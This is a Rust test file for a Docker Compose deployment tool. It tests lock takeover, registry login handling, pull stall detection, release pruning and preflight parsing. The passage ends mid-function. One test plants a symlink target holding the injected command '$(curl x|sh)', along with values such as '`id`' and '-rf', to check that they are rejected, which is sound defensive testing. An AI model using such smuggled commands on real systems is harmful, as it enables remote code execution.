use super::*;
use crate::argv::quote_argv;

fn layout() -> Layout {
    Layout {
        deploy_dir: "/opt/shop".into(),
        project: "shop".into(),
    }
}

/// Runs a command here, the way sshd would hand it to the login shell.
fn run_here(cmd: &Cmd) -> (i32, String, String) {
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(quote_argv(&cmd.0))
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into(),
        String::from_utf8_lossy(&out.stderr).into(),
    )
}

#[test]
fn the_lock_is_taken_once_held_after_and_an_unwritable_dir_is_an_error() {
    let tmp = tempfile::tempdir().unwrap();
    let layout = Layout {
        deploy_dir: tmp.path().join("app").display().to_string(),
        project: "shop".into(),
    };
    let acquire =
        |token: &str| layout.lock_acquire(token, &format!("{{\"token\":\"{token}\"}}"), 90);
    assert_eq!(run_here(&acquire("a")).0, 0);
    let lock = std::path::Path::new(&layout.lock_dir()).to_path_buf();
    assert!(lock.join("heartbeat").is_file());
    assert_eq!(std::fs::read_to_string(lock.join("token")).unwrap(), "a\n");
    let releases = std::fs::metadata(layout.releases_dir()).unwrap();
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(releases.permissions().mode() & 0o777, 0o700);
    let (status, held, _) = run_here(&acquire("b"));
    assert_eq!(status, LOCK_HELD);
    assert!(held.starts_with("{\"token\":\"a\"}\n"), "{held}");
    // A lock dir that cannot be made is not a held lock.
    std::fs::remove_dir_all(&lock).unwrap();
    std::fs::write(&lock, "").unwrap();
    let (status, _, err) = run_here(&acquire("c"));
    assert!(status != 0 && status != LOCK_HELD, "{status}: {err}");
    assert!(err.contains("lock"), "{err}");
}

/// Runs a command here with a stand-in `docker` (a shell script) first on PATH.
fn run_with_docker_stdin(docker: &str, cmd: &Cmd, stdin: &[u8]) -> std::process::Output {
    use std::io::Write;
    let (_fake, path) = fake_docker(docker);
    let mut child = std::process::Command::new("sh")
        .arg("-c")
        .arg(quote_argv(&cmd.0))
        .env("PATH", path)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // A command that exits without reading its stdin closes the pipe first: not an error
    // of the test (what it printed and its status are what is checked).
    if let Err(e) = child.stdin.take().unwrap().write_all(stdin) {
        assert_eq!(e.kind(), std::io::ErrorKind::BrokenPipe, "{e}");
    }
    child.wait_with_output().unwrap()
}

/// A dir holding `docker`, a shell script, and a PATH with it first.
fn fake_docker(docker: &str) -> (tempfile::TempDir, String) {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let fake = tmp.path().join("docker");
    std::fs::write(&fake, format!("#!/bin/sh\n{docker}\n")).unwrap();
    std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!(
        "{}:{}",
        tmp.path().display(),
        std::env::var("PATH").unwrap()
    );
    (tmp, path)
}

fn run_with_docker(docker: &str, cmd: &Cmd) -> String {
    let out = run_with_docker_stdin(docker, cmd, b"");
    assert!(out.status.success(), "{out:?}");
    String::from_utf8_lossy(&out.stdout).into()
}

#[test]
fn the_pull_logs_in_with_the_password_on_stdin_and_a_failed_login_leaves_no_config() {
    let tmp = tempfile::tempdir().unwrap();
    let record = tmp.path().join("record");
    let dir = tmp.path().join("cfg").display().to_string();
    // The pull's login records its config dir, the config it starts from and its stdin,
    // and the mode of the dir; the pull fails if the login's dir is not its config.
    let docker = format!(
        r#"case " $* " in
*" login "*) echo "$DOCKER_CONFIG" > {r}; stat -c %a "$DOCKER_CONFIG" > {r}.mode; cat "$DOCKER_CONFIG/config.json" > {r}.config; cat > {r}.stdin; echo 'Login Succeeded'; [ "$3" != bad ] ;;
*" config "*) printf '{{}}' ;;
*" pull "*) [ "$DOCKER_CONFIG" = {dir} ] ;;
esac"#,
        r = record.display()
    );
    let recorded =
        |ext: &str| std::fs::read_to_string(format!("{}{ext}", record.display())).unwrap();
    let cmd = |user: &str| {
        let l = layout();
        let login = PullLogin {
            registry: "reg:5000",
            username: user,
            config_dir: &dir,
        };
        let mut cmd = config_beside_pull(
            &l.compose("r1", &["config"]),
            &l.compose("r1", &["pull"]),
            Some(&login),
            std::time::Duration::from_secs(60),
        );
        cmd.0.push("END-x".into());
        cmd
    };
    let ok = run_with_docker_stdin(&docker, &cmd("bot"), b"pw-1");
    assert!(ok.status.success(), "{ok:?}");
    assert!(
        String::from_utf8_lossy(&ok.stdout).contains("END-x 0 0"),
        "{ok:?}"
    );
    assert_eq!(recorded("").trim(), dir);
    assert_eq!(recorded(".mode").trim(), "700");
    assert_eq!(recorded(".stdin"), "pw-1");
    // The login starts from a config that holds an auth entry: the Docker CLI then
    // never looks for a credential helper on the host to store the password in.
    assert_eq!(recorded(".config"), super::LOGIN_CONFIG);
    // Gone once the command ends.
    assert!(!std::path::Path::new(&dir).exists());

    // A dir prepared in advance (by another user, say) is refused, never reused, and
    // left as it was.
    std::fs::create_dir(&dir).unwrap();
    let taken = run_with_docker_stdin(&docker, &cmd("bot"), b"pw-3");
    assert!(!taken.status.success(), "{taken:?}");
    assert!(std::path::Path::new(&dir).is_dir());
    std::fs::remove_dir_all(&dir).unwrap();

    let bad = run_with_docker_stdin(&docker, &cmd("bad"), b"pw-2");
    assert_eq!(bad.status.code(), Some(1), "{bad:?}");
    let said = String::from_utf8_lossy(&bad.stdout);
    assert!(
        said.starts_with("docker login to reg:5000 failed:"),
        "{said}"
    );
    assert!(!said.contains("END-x"), "{said}");
    assert!(!std::path::Path::new(&dir).exists(), "{dir} left behind");
}

#[test]
fn a_pull_without_progress_is_stopped_as_stalled_naming_what_it_pulled() {
    // The pull prints its start, one progress line, then nothing (a registry that
    // stopped sending), and ignores TERM as an old client does.
    let docker = r#"case " $* " in
*" config "*) printf '{}' ;;
*" pull "*) trap '' TERM; echo " web Pulling"; echo " 1978252d167c Downloading [>  ]  302.1kB/30.01MB"; echo " db Pulling"; echo " db Pulled"; sleep 60 ;;
esac"#;
    let l = layout();
    let mut cmd = config_beside_pull(
        &l.compose("r1", &["config"]),
        &l.compose("r1", &["pull"]),
        None,
        std::time::Duration::from_secs(2),
    );
    cmd.0.push("END-x".into());
    let started = std::time::Instant::now();
    let out = run_with_docker_stdin(docker, &cmd, b"");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{out:?}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
    assert!(
        text.contains("berth: no progress for 2 s; still being pulled: web\n"),
        "{text}"
    );
    assert!(
        text.contains(&format!("\nEND-x 0 {PULL_STALLED}\n")),
        "{text}"
    );
    // Progress lines are left out; the rest is the pull's own.
    assert!(
        !text.contains("Downloading") && text.contains(" db Pulled"),
        "{text}"
    );
}

#[test]
fn each_image_gets_a_line_and_a_missing_one_a_dash() {
    let tmp = tempfile::tempdir().unwrap();
    let calls = tmp.path().join("calls");
    // `docker image inspect --format F R...`: knows `known`, prints the format it was
    // given for each, fails (after the others) on any other; counts its runs.
    let docker = format!(
        r#"echo run >> {c}; f=$4; shift 4; s=0
for r; do if [ "$r" = known ]; then echo "$f of $r"; else echo "No such image: $r" >&2; s=1; fi; done
exit $s"#,
        c = calls.display()
    );
    let runs = || std::fs::read_to_string(&calls).unwrap().lines().count();
    let images = ["known", "gone", "known"].map(String::from);
    assert_eq!(
        run_with_docker(&docker, &image_ids(&images)),
        "{{.Id}} of known\n-\n{{.Id}} of known\n"
    );
    // One that fails, then one per image.
    assert_eq!(runs(), 4);
    std::fs::remove_file(&calls).unwrap();
    // All there: one `docker` for all of them.
    let known = ["known", "known"].map(String::from);
    assert_eq!(
        run_with_docker(&docker, &repo_digests(&known)),
        "{{.Id}} {{json .RepoDigests}} of known\n{{.Id}} {{json .RepoDigests}} of known\n"
    );
    assert_eq!(runs(), 1);
    assert_eq!(run_with_docker(&docker, &repo_digests(&[])), "");
}

/// A stand-in `docker` for `config_beside_pull`, and the command: the config prints
/// `$CONFIG_OUT` on stdout (without a newline at the end, as compose does), `$CONFIG_ERR`
/// on stderr and exits `$CONFIG_STATUS`, after `$CONFIG_SLEEP`; the pull records its
/// `DOCKER_CONFIG`, prints two lines, sleeps `$PULL_SLEEP` and exits `$PULL_STATUS`, from
/// a child that only a TERM to the child stops (see below).
fn beside_cmd(dir: &std::path::Path, env: &str) -> (String, Cmd) {
    let record = dir.join("pull-config");
    let docker = format!(
        r#"set -a
{env}
set +a
case " $* " in
*" config "*) sleep "${{CONFIG_SLEEP:-0}}"; [ -n "$CONFIG_OUT" ] || CONFIG_OUT='{{}}'; printf '%s' "$CONFIG_OUT"; [ -z "$CONFIG_ERR" ] || printf '%s\n' "$CONFIG_ERR" >&2; exit "${{CONFIG_STATUS:-0}}" ;;
*" login "*) cat >/dev/null; exit 0 ;;
*" image inspect "*) shift 4; for r; do case $r in gone*) exit 1;; esac; echo "sha256:1 [\"$r@sha256:9\"]"; done; exit 0 ;;
*" pull "*) echo "${{DOCKER_CONFIG:-none}}" > {r}
  # As `docker` before 25: compose is a child (the plugin), and the client takes no notice
  # of TERM; only a TERM to the child stops the pull.
  sh -c 'echo " web Pulling"; sleep "${{PULL_SLEEP:-0}}"; echo " web Pulled"; exit "${{PULL_STATUS:-0}}"' &
  c=$!; trap : TERM
  while :; do wait $c; s=$?; kill -0 $c 2>/dev/null || exit $s; done ;;
esac
exit 99"#,
        r = record.display()
    );
    let login = dir.join("login").display().to_string();
    let l = layout();
    let mut cmd = config_beside_pull(
        &l.compose("r1", &["config", "--format", "json"]),
        &l.compose("r1", &["pull"]),
        Some(&PullLogin {
            registry: "reg:5000",
            username: "bot",
            config_dir: &login,
        }),
        std::time::Duration::from_secs(60),
    );
    cmd.0.push("END-x".into());
    (docker, cmd)
}

fn beside(dir: &std::path::Path, env: &str) -> (std::process::Output, std::time::Duration) {
    let (docker, cmd) = beside_cmd(dir, env);
    let started = std::time::Instant::now();
    let out = run_with_docker_stdin(&docker, &cmd, b"");
    (out, started.elapsed())
}

#[test]
fn a_cancelled_config_and_pull_stops_the_pull_and_removes_the_login() {
    use std::os::unix::process::CommandExt;
    let tmp = tempfile::tempdir().unwrap();
    let (docker, cmd) = beside_cmd(tmp.path(), "PULL_SLEEP=30");
    let (_fake, path) = fake_docker(&docker);
    // As the agent runs a command: in a process group of its own, which a cancel TERMs.
    let child = std::process::Command::new("sh")
        .arg("-c")
        .arg(quote_argv(&cmd.0))
        .env("PATH", path)
        .process_group(0)
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    std::thread::sleep(std::time::Duration::from_millis(500));
    // SAFETY: a signal to the process group this test just started.
    unsafe { libc::kill(-(child.id() as i32), libc::SIGTERM) };
    // The output ends only once nothing holds it open: the pull's child included.
    let out = child.wait_with_output().unwrap();
    // (TERM ends the `sh -c` around the script; the script itself exits 143.)
    assert!(!out.status.success(), "{out:?}");
    assert!(
        !String::from_utf8_lossy(&out.stdout).contains("web Pulled"),
        "{out:?}"
    );
    assert!(
        started.elapsed() < std::time::Duration::from_secs(10),
        "the pull outlived the command"
    );
    assert!(
        !tmp.path().join("login").exists(),
        "the registry login outlived the command"
    );
}

#[test]
fn the_config_runs_beside_the_pull_and_its_failure_stops_the_pull() {
    let tmp = tempfile::tempdir().unwrap();
    let login = tmp.path().join("login");
    let text = |o: &std::process::Output| String::from_utf8_lossy(&o.stdout).to_string();
    // Both succeed: the pull's lines, the marker, the model; the pull had the login,
    // which is gone afterwards.
    let (out, _) = beside(tmp.path(), r#"CONFIG_OUT='{"services": {}}'"#);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        text(&out),
        " web Pulling\n web Pulled\n\nEND-x 0 0\n{\"services\": {}}"
    );
    let used = std::fs::read_to_string(tmp.path().join("pull-config")).unwrap();
    assert_eq!(used.trim(), login.display().to_string());
    assert!(!login.exists(), "the registry login outlived the pull");
    // A model naming images (as compose indents them): what each image is, in one
    // `docker`; none when one is missing (berth asks again).
    let model = |a: &str| {
        format!(
            "{{\n  \"services\": {{\n    \"a\": {{\n      \"image\": \"{a}\",\n      \"x\": 1\n    }},\n    \"b\": {{\n      \"image\": \"reg/b@sha256:5\"\n    }}\n  }}\n}}"
        )
    };
    let (out, _) = beside(tmp.path(), &format!("CONFIG_OUT='{}'", model("reg/a:1")));
    let images = "\nEND-x-images\nreg/a:1 sha256:1 [\"reg/a:1@sha256:9\"]\nreg/b@sha256:5 sha256:1 [\"reg/b@sha256:5@sha256:9\"]\n";
    assert!(
        text(&out).ends_with(&format!("{}{images}", model("reg/a:1"))),
        "{}",
        text(&out)
    );
    let (out, _) = beside(tmp.path(), &format!("CONFIG_OUT='{}'", model("gone/a:1")));
    assert!(text(&out).ends_with(&model("gone/a:1")), "{}", text(&out));
    // The pull fails: its status, and still the model.
    let (out, _) = beside(tmp.path(), "PULL_STATUS=18");
    assert!(text(&out).ends_with("\nEND-x 0 18\n{}"), "{}", text(&out));
    // An unset variable (with exit 0) and a failed config both stop a long pull at once,
    // and what follows the marker is the config's stderr.
    for env in [
        r#"CONFIG_SLEEP=0.3 PULL_SLEEP=30 CONFIG_ERR='WARN[0000] The "JWT" variable is not set. Defaulting to a blank string.'"#,
        "CONFIG_SLEEP=0.3 PULL_SLEEP=30 CONFIG_STATUS=15 CONFIG_ERR='yaml: line 3: bad'",
    ] {
        let (out, took) = beside(tmp.path(), env);
        let t = text(&out);
        assert!(out.status.success(), "{out:?}");
        assert!(
            took < std::time::Duration::from_secs(10),
            "the pull ran on: {took:?}"
        );
        assert!(!t.contains("web Pulled"), "{t}");
        let (_, after) = t.split_once("\nEND-x ").unwrap();
        assert!(
            after.starts_with("0 143\nWARN[0000] The \"JWT\"")
                || after.starts_with("15 143\nyaml: line 3"),
            "{after}"
        );
        assert!(
            !login.exists(),
            "the registry login outlived the stopped pull"
        );
    }
}

#[test]
fn the_snapshot_names_the_current_release_then_the_containers() {
    let tmp = tempfile::tempdir().unwrap();
    let layout = Layout {
        deploy_dir: tmp.path().display().to_string(),
        project: "shop".into(),
    };
    // `ps` lists two ids of the project; `inspect` prints a JSON line for each.
    let docker = r#"case "$1" in
ps) [ "$4" = label=com.docker.compose.project=shop ] && printf 'a1\nb2\n' ;;
inspect) shift 3; for i in "$@"; do echo "{\"Id\":\"$i\"}"; done ;;
esac"#;
    let first = run_with_docker(docker, &layout.snapshot());
    assert_eq!(
        first,
        "\n{\"Id\":\"a1\"}\n{\"Id\":\"b2\"}\nberth-healed-note\n\n"
    );
    std::os::unix::fs::symlink(".berth/releases/r7", layout.current()).unwrap();
    let again = run_with_docker(docker, &layout.snapshot());
    assert_eq!(
        again,
        "r7\n{\"Id\":\"a1\"}\n{\"Id\":\"b2\"}\nberth-healed-note\n\n"
    );
    let none = run_with_docker("true", &layout.snapshot());
    assert_eq!(none, "r7\nberth-healed-note\n\n");
}

#[test]
fn a_tampered_current_link_names_no_previous_release() {
    let tmp = tempfile::tempdir().unwrap();
    let current = tmp.path().join("current");
    std::os::unix::fs::symlink(".berth/releases/$(curl x|sh)", &current).unwrap();
    let snapshot = Layout {
        deploy_dir: tmp.path().display().to_string(),
        project: "shop".into(),
    }
    .snapshot();
    let out = run_with_docker("true", &snapshot);
    let first = out.lines().next().unwrap_or_default();
    assert_eq!(first, "$(curl x|sh)", "the host answers what the link says");
    assert_eq!(current_release(first), None);
    for bad in ["", "..", "-rf", "r7 r8", "a/b", "`id`"] {
        assert_eq!(current_release(bad), None, "{bad:?}");
    }
    assert_eq!(
        current_release(" 20261124T101500Z-abc1234 ").as_deref(),
        Some("20261124T101500Z-abc1234")
    );
}

#[test]
fn compose_commands_pin_files_env_and_project_dir() {
    let cmd = layout().compose("r1", &["up", "-d", "--remove-orphans"]);
    assert_eq!(
        quote_argv(&cmd.0),
        "docker compose -p shop --project-directory /opt/shop/.berth/releases/r1 \
             -f /opt/shop/.berth/releases/r1/compose.yml -f /opt/shop/.berth/releases/r1/berth.override.yml \
             --env-file /opt/shop/.berth/releases/r1/.env up -d --remove-orphans"
    );
}

#[test]
fn override_pins_each_service() {
    let mut images = BTreeMap::new();
    images.insert(
        "backend".to_string(),
        "r/acme-backend@sha256:abc".to_string(),
    );
    let text = override_file(&images);
    let v: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(
        v["services"]["backend"]["image"],
        "r/acme-backend@sha256:abc"
    );
}

#[test]
fn release_ids_sort_by_time() {
    let t = time::macros::datetime!(2026-11-24 10:15:00 UTC);
    assert_eq!(release_id(t, "abc1234def"), "20261124T101500Z-abc1234");
}

fn entries(list: &[(&str, &str)]) -> Vec<ReleaseEntry> {
    let out: String = list
        .iter()
        .map(|(id, outcome)| {
            let record = if outcome.is_empty() {
                String::new()
            } else {
                format!(
                    r#"{{"id":"{id}","sha":"s","created_at":"","actor":"","run_url":"","images":{{}},"replaced":{{}},"previous_release":null,"outcome":"{outcome}"}}"#
                )
            };
            format!("{RECORD_MARK} {id}\n{record}\n")
        })
        .collect();
    parse_release_records(&out)
}

#[test]
fn pruning_keeps_the_newest_and_current() {
    let e = entries(&[
        ("r1", "deployed"),
        ("r2", "deployed"),
        ("r3", "deployed"),
        ("r4", "deployed"),
    ]);
    assert_eq!(releases_to_prune(&e, 2, "r4", None), vec!["r2", "r1"]);
    assert_eq!(releases_to_prune(&e, 2, "r1", None), vec!["r2"]);
    assert_eq!(releases_to_prune(&e, 1, "r4", Some("r3")), vec!["r2", "r1"]);
}

#[test]
fn preflight_output_is_read_with_the_last_word_on_writability() {
    let ok = parse_preflight(
        "compose 2.40.3\ndocker-root /var/lib/docker\ndocker-free-kb 1000\nwritable /opt\nfree-kb 2048\n",
    );
    assert_eq!(ok.compose, Ok("2.40.3".into()));
    assert_eq!(ok.docker_root, Ok("/var/lib/docker".into()));
    assert_eq!(
        (ok.writable, ok.free_kb, ok.docker_free_kb),
        (true, Some(2048), Some(1000))
    );
    assert_eq!(ok.lock_holder, None);
    let bad = parse_preflight(
        "compose-missing docker: 'compose' is not a docker command.\ndocker-missing permission denied\nwritable /opt/shop\nnot-writable /opt/shop/.berth\nfree-kb \nlock-held {\"actor\":\"alice\"}\n",
    );
    assert!(bad
        .compose
        .as_ref()
        .is_err_and(|e| e.contains("not a docker command")));
    assert_eq!(bad.docker_root, Err("permission denied".into()));
    assert!(!bad.writable && bad.dir == "/opt/shop/.berth", "{bad:?}");
    assert_eq!(bad.free_kb, None);
    assert_eq!(bad.lock_holder.as_deref(), Some("{\"actor\":\"alice\"}"));
}

#[test]
fn a_host_dir_that_is_no_release_id_is_never_listed() {
    let out = format!(
        "{RECORD_MARK} 20261124T101500Z-abc1234\n{{}}\n{RECORD_MARK} x/../../other\n\n{RECORD_MARK} has space\n\n{RECORD_MARK} .hidden\n"
    );
    let ids: Vec<String> = parse_release_records(&out)
        .into_iter()
        .map(|e| e.id)
        .collect();
    assert_eq!(ids, ["20261124T101500Z-abc1234"]);
}

#[test]
fn a_container_slow_to_stop_is_found_from_composes_own_lines() {
    let at = |ms: u64, l: &str| (Duration::from_millis(ms), l.to_string());
    let lines = vec![
        at(0, " Container shop-backend-1  Recreate"),
        at(10, " Container shop-frontend-1  Recreate"),
        at(300, " Container shop-frontend-1  Recreated"),
        at(6200, " Container shop-backend-1  Recreated"),
        at(6300, " Container shop-worker-1  Stopping"),
        at(12400, " Container shop-worker-1  Stopped"),
        at(12500, "[host] Container shop-web-1  Started"),
    ];
    let slow = slow_stops(&lines, "shop", Duration::from_secs(5));
    let names: Vec<&str> = slow.iter().map(|(s, _)| s.as_str()).collect();
    assert_eq!(names, ["backend", "worker"]);
    assert_eq!(slow[0].1, Duration::from_millis(6200));
    assert_eq!(service_of("my-app-web-12", "my-app"), "web");
}

#[test]
fn failed_and_partial_releases_never_displace_proven_ones() {
    // Newest last here: r5..r8 failed, rolled back, a partial upload, interrupted.
    let e = entries(&[
        ("r1", "deployed"),
        ("r2", "deployed"),
        ("r3", "deployed"),
        ("r4", "rolled-back"),
        ("r5", "failed"),
        ("r6", ""),
        ("r7", "interrupted"),
        ("r8", "deployed"),
    ]);
    let doomed = releases_to_prune(&e, 3, "r8", None);
    assert_eq!(
        doomed,
        vec!["r5", "r4", "r1"],
        "keeps r8 r3 r2 proven, r7 r6 unproven"
    );
    assert_eq!(
        newest_proven(&e, &["r8"]).map(|e| e.id.as_str()),
        Some("r3")
    );
    assert_eq!(e[1].outcome(), Outcome::Interrupted);
    assert_eq!(e[2].outcome(), Outcome::Unknown);
}

#[test]
fn pure_builders_quote_hostile_values_safely() {
    let l = Layout {
        deploy_dir: "/opt/a b".into(),
        project: "p".into(),
    };
    let q = quote_argv(&l.activate_and_switch("r1").0);
    assert!(q.contains("'/opt/a b/current'"), "{q}");
}

/// A lock whose holder's session ended (`abandoned`), or whose heartbeat went stale, is
/// taken over by exactly one of several takers racing for it; a live one by none.
#[test]
fn racing_takeovers_leave_exactly_one_holder() {
    let tmp = tempfile::tempdir().unwrap();
    let layout = Layout {
        deploy_dir: tmp.path().display().to_string(),
        project: "shop".into(),
    };
    let lock = std::path::PathBuf::from(layout.lock_dir());
    let take_by = |tokens: &[String]| -> Vec<i32> {
        let children: Vec<_> = tokens
            .iter()
            .map(|t| {
                std::process::Command::new("sh")
                    .arg("-c")
                    .arg(quote_argv(&layout.lock_acquire(t, &holder(t), 90).0))
                    .stdout(std::process::Stdio::null())
                    .spawn()
                    .unwrap()
            })
            .collect();
        children
            .into_iter()
            .map(|mut c| c.wait().unwrap().code().unwrap_or(-1))
            .collect()
    };
    for round in 0..40 {
        std::fs::remove_dir_all(&lock).ok();
        assert_eq!(
            run_here(&layout.lock_acquire("old", &holder("old"), 90)).0,
            0
        );
        if round % 2 == 0 {
            std::fs::write(lock.join("abandoned"), "").unwrap();
        } else {
            let beat = lock.join("heartbeat");
            let status = std::process::Command::new("touch")
                .args(["-d", "-5 minutes"])
                .arg(&beat)
                .status()
                .unwrap();
            assert!(status.success());
        }
        let tokens: Vec<String> = (0..3).map(|i| format!("r{round}t{i}")).collect();
        let codes = take_by(&tokens);
        let winners: Vec<&String> = tokens
            .iter()
            .zip(&codes)
            .filter(|(_, c)| **c == 0)
            .map(|(t, _)| t)
            .collect();
        assert_eq!(winners.len(), 1, "round {round}: exit codes {codes:?}");
        assert!(
            codes.iter().all(|c| *c == 0 || *c == LOCK_HELD),
            "{codes:?}"
        );
        let token = std::fs::read_to_string(lock.join("token")).unwrap();
        assert_eq!(token.trim(), winners[0].as_str(), "round {round}");
        assert!(!lock.join("abandoned").exists());
        assert!(!std::path::Path::new(&format!("{}.takeover", lock.display())).exists());
    }
    // A live lock (fresh heartbeat, session running) is never taken over.
    std::fs::remove_dir_all(&lock).unwrap();
    assert_eq!(
        run_here(&layout.lock_acquire("live", &holder("live"), 90)).0,
        0
    );
    assert_eq!(take_by(&["x".into(), "y".into()]), [LOCK_HELD, LOCK_HELD]);
    // Its holder withdraws nothing it does not hold, and releases what it does.
    assert_eq!(run_here(&layout.lock_reclaim("x")).0, 3);
    std::fs::write(lock.join("abandoned"), "").unwrap();
    assert_eq!(run_here(&layout.lock_reclaim("live")).0, 0);
    assert!(!lock.join("abandoned").exists());
    run_here(&layout.lock_release("x"));
    assert!(lock.exists());
    run_here(&layout.lock_release("live"));
    assert!(!lock.exists());
}

#[test]
fn a_reclaim_takes_the_session_over_and_stops_the_one_before_it() {
    let tmp = tempfile::tempdir().unwrap();
    let layout = Layout {
        deploy_dir: tmp.path().display().to_string(),
        project: "shop".into(),
    };
    let lock = tmp.path().join(".berth/lock");
    let env = |cmd: &Cmd, session: &str| {
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(quote_argv(&cmd.0))
            .env("BERTH_SESSION", session)
            .env("BERTH_AGENT", "4242")
            .output()
            .unwrap();
        out.status.code().unwrap_or(-1)
    };
    assert_eq!(
        env(&layout.lock_acquire("tok", &holder("tok"), 90), "s1"),
        0
    );
    assert_eq!(
        std::fs::read_to_string(lock.join("session")).unwrap(),
        "s1 4242\n"
    );
    // The session before, still running (its connection died silently): stopped.
    let mut old = std::process::Command::new("sh")
        .args(["-c", "sleep 30", "berth-agent", "lock", "tok", "s1"])
        .spawn()
        .unwrap();
    std::fs::write(lock.join("session"), format!("s1 {}\n", old.id())).unwrap();
    std::fs::write(lock.join("abandoned"), "").unwrap();
    assert_eq!(env(&layout.lock_reclaim("tok"), "s2"), 0);
    assert!(!lock.join("abandoned").exists());
    assert_eq!(
        std::fs::read_to_string(lock.join("session")).unwrap(),
        "s2 4242\n"
    );
    let stopped = old.try_wait().unwrap();
    assert!(stopped.is_some(), "the old session still runs");
    // A process that is not that session's agent is never signalled.
    let mut other = std::process::Command::new("sleep")
        .arg("30")
        .spawn()
        .unwrap();
    std::fs::write(lock.join("session"), format!("s2 {}\n", other.id())).unwrap();
    assert_eq!(env(&layout.lock_reclaim("tok"), "s3"), 0);
    assert!(
        other.try_wait().unwrap().is_none(),
        "an unrelated process was killed"
    );
    other.kill().unwrap();
    other.wait().unwrap();
}

#[test]
fn a_release_waits_for_a_takeover_under_way_and_never_removes_a_lock_not_its_own() {
    let tmp = tempfile::tempdir().unwrap();
    let layout = Layout {
        deploy_dir: tmp.path().display().to_string(),
        project: "shop".into(),
    };
    let lock = tmp.path().join(".berth/lock");
    assert_eq!(run_here(&layout.lock_acquire("a", &holder("a"), 90)).0, 0);
    // A takeover holds the mutex: the release waits; meanwhile the lock changes hands.
    let mutex = tmp.path().join(".berth/lock.takeover");
    std::fs::create_dir(&mutex).unwrap();
    let release = std::thread::spawn({
        let cmd = layout.lock_release("a");
        move || run_here(&cmd)
    });
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert!(
        !release.is_finished(),
        "the release did not wait for the mutex"
    );
    std::fs::write(lock.join("token"), "b\n").unwrap();
    std::fs::remove_dir(&mutex).unwrap();
    assert_eq!(release.join().unwrap().0, 0);
    assert!(lock.exists(), "the new holder's lock was removed");
    assert!(!mutex.exists());
}

fn holder(token: &str) -> String {
    format!("{{\"token\":\"{token}\"}}")
}

#[test]
fn a_script_stopped_while_it_holds_the_takeover_mutex_leaves_it_free() {
    for shell in ["dash", "bash", "busybox"] {
        let tmp = tempfile::tempdir().unwrap();
        let lock = tmp.path().join("lock");
        let mut args: Vec<&str> = if shell == "busybox" {
            vec!["sh"]
        } else {
            vec![]
        };
        let script = format!("{LOCK_MUTEX}sleep 30 & wait $!");
        args.extend(["-c", script.as_str(), "sh"]);
        let mut child = std::process::Command::new(shell)
            .args(&args)
            .arg(&lock)
            .spawn()
            .unwrap();
        let mutex = tmp.path().join("lock.takeover");
        while !mutex.exists() {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        std::process::Command::new("kill")
            .args(["-TERM", &child.id().to_string()])
            .status()
            .unwrap();
        child.wait().unwrap();
        assert!(!mutex.exists(), "{shell}: the mutex outlived its holder");
    }
}

#[test]
fn a_restore_switches_current_only_once_its_up_succeeded() {
    let tmp = tempfile::tempdir().unwrap();
    let layout = Layout {
        deploy_dir: tmp.path().display().to_string(),
        project: "shop".into(),
    };
    let bin = tmp.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    std::fs::write(bin.join("docker"), "#!/bin/sh\nexit $FAKE_UP\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(bin.join("docker"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let current = tmp.path().join("current");
    std::os::unix::fs::symlink(".berth/releases/r2-failed", &current).unwrap();
    let run = |up: &str| {
        std::process::Command::new("sh")
            .arg("-c")
            .arg(quote_argv(&layout.activate_and_switch("r1").0))
            .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
            .env("FAKE_UP", up)
            .status()
            .unwrap()
            .code()
    };
    assert_eq!(run("1"), Some(1));
    assert_eq!(
        std::fs::read_link(&current).unwrap().display().to_string(),
        ".berth/releases/r2-failed"
    );
    assert_eq!(run("0"), Some(0));
    assert_eq!(
        std::fs::read_link(&current).unwrap().display().to_string(),
        ".berth/releases/r1"
    );
}

#[test]
fn preflight_reads_compose_from_docker_info_and_asks_compose_only_when_it_must() {
    let layout = layout();
    let run = |docker: &str| parse_preflight(&run_with_docker(docker, &layout.preflight()));
    // One `docker info` tells both (a warning on stderr changes nothing).
    let p = run(
        r#"case "$1 $3" in "info {{.DockerRootDir}}|{{range"*) echo 'WARNING: No swap limit support' >&2; echo '/var/lib/docker|v2.40.3';; *) echo "unexpected: $*" >&2; exit 9;; esac"#,
    );
    assert_eq!(p.compose, Ok("2.40.3".into()));
    assert_eq!(p.docker_root, Ok("/var/lib/docker".into()));
    // An old CLI without `.ClientInfo`: the plain format, then `docker compose version`.
    let p = run(
        r#"case "$1 $3" in "info {{.DockerRootDir}}|") echo '/data/docker|';; "info "*) echo 'template: cannot evaluate ClientInfo' >&2; exit 1;; "compose --short") echo 2.20.0;; *) exit 9;; esac"#,
    );
    assert_eq!(p.compose, Ok("2.20.0".into()));
    assert_eq!(p.docker_root, Ok("/data/docker".into()));
    // No daemon: said so (asked once), and compose is still asked.
    let p = run(
        r#"case "$1" in info) [ -e "$0.asked" ] && exit 7; : > "$0.asked"; echo 'Cannot connect to the Docker daemon' >&2; exit 1;; compose) echo "docker: 'compose' is not a docker command." >&2; exit 1;; esac"#,
    );
    assert_eq!(
        p.docker_root,
        Err("Cannot connect to the Docker daemon".into())
    );
    assert!(p.compose.is_err(), "{:?}", p.compose);
}

/// A stand-in `docker` for the heal: one container `c1` of the project, running
/// `reg/web@sha256:1` (or `$STATE`), stopped within 0 s; `up` is recorded.
fn heal_docker(dir: &std::path::Path) -> String {
    format!(
        r#"case " $* " in
